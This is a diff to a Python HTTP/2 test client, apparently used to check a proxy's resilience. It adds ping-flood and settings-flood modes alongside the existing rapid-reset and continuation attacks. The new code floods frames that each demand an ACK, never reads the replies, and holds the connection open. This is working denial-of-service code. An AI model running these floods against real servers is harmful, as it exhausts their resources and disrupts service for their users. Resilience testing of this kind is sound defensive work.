@@ -12,25 +12,42 @@ then:
 Writes frames with hyperframe (raw, so that nothing is "fixed" on the way) and reads what the
 server sends. Prints one JSON object: {"sent": frames written before the connection broke,
 "goaway": error code of a GOAWAY received or null, "closed": the server closed the connection}.
+
+  ping-flood / settings-flood  PING frames (or SETTINGS frames, each changing one setting) sent
+                as fast as the socket takes them, on a non-blocking socket whose small buffers
+                are set before connecting, while the client never reads a byte: every frame
+                asks for an ACK the server has nowhere to put but its own memory or a full
+                socket. Stops when writes have been blocked for --block-seconds in a row
+                (backpressure) or after --max-bytes. Prints one JSON line {"sent_bytes",
+                "frames", "blocked": bool, "seconds", "sndbuf", "rcvbuf"} and keeps the
+                connection open, still unread, until stdin closes.
 """
 
 import argparse
 import json
+import select
 import socket
 import ssl
+import struct
 import sys
 import time
 
 from hpack import Encoder
 from hyperframe.frame import (ContinuationFrame, Frame, GoAwayFrame, HeadersFrame,
-                              RstStreamFrame, SettingsFrame)
+                              PingFrame, RstStreamFrame, SettingsFrame)
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
 
-def connect(args):
+def connect(args, bufsize=None):
     host, port = args.proxy.rsplit(":", 1)
-    raw = socket.create_connection((host, int(port)), timeout=10)
+    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    if bufsize:
+        # Before connecting, so that the receive window is small from the start.
+        raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, bufsize)
+        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, bufsize)
+    raw.settimeout(10)
+    raw.connect((host, int(port)))
     raw.sendall(f"CONNECT {args.host}:443 HTTP/1.1\r\nHost: {args.host}:443\r\n\r\n".encode())
     head = b""
     while b"\r\n\r\n" not in head:
@@ -77,14 +94,70 @@ def read_frames(sock, state):
     state["buf"] = buf
 
 
+def ack_flood(args):
+    """Floods frames that each ask for an ACK, never reading; see the module doc."""
+    sock = connect(args, bufsize=args.bufsize)
+    sock.sendall(PREFACE + SettingsFrame(0).serialize())
+    batch = bytearray()
+    for i in range(1024):
+        if args.mode == "ping-flood":
+            batch += PingFrame(0, opaque_data=struct.pack(">Q", i)).serialize()
+        else:
+            # Alternating values, so that every frame is a change to apply.
+            batch += SettingsFrame(0, settings={
+                SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + (i % 2)}).serialize()
+    batch = bytes(batch)
+    per_batch = 1024
+    sock.setblocking(False)
+    sent = frames = 0
+    started = time.time()
+    blocked_since = None
+    blocked = False
+    while sent < args.max_bytes:
+        try:
+            sock.send(batch)
+        except (ssl.SSLWantWriteError, BlockingIOError):
+            now = time.time()
+            if blocked_since is None:
+                blocked_since = now
+            elif now - blocked_since >= args.block_seconds:
+                blocked = True
+                break
+            select.select([], [sock], [], 0.05)
+            continue
+        except (ConnectionError, ssl.SSLError, OSError) as e:
+            print(json.dumps({"error": str(e), "sent_bytes": sent, "frames": frames}), flush=True)
+            return
+        blocked_since = None
+        sent += len(batch)
+        frames += per_batch
+    print(json.dumps({
+        "sent_bytes": sent,
+        "frames": frames,
+        "blocked": blocked,
+        "seconds": round(time.time() - started, 3),
+        "sndbuf": sock.getsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF),
+        "rcvbuf": sock.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF),
+    }), flush=True)
+    # Hold the connection, unread, until the test is done with it.
+    sys.stdin.read()
+
+
 def main():
     p = argparse.ArgumentParser()
     p.add_argument("--proxy", required=True)
     p.add_argument("--ca", required=True)
     p.add_argument("--host", required=True)
-    p.add_argument("--mode", choices=["rapid-reset", "continuation"], required=True)
+    p.add_argument("--mode", choices=["rapid-reset", "continuation", "ping-flood",
+                                      "settings-flood"], required=True)
     p.add_argument("--count", type=int, default=5000)
+    p.add_argument("--max-bytes", type=int, default=64 << 20)
+    p.add_argument("--block-seconds", type=float, default=3.0)
+    p.add_argument("--bufsize", type=int, default=65536)
     args = p.parse_args()
+    if args.mode in ("ping-flood", "settings-flood"):
+        ack_flood(args)
+        return
 
     sock = connect(args)
     sock.sendall(PREFACE + SettingsFrame(0).serialize())
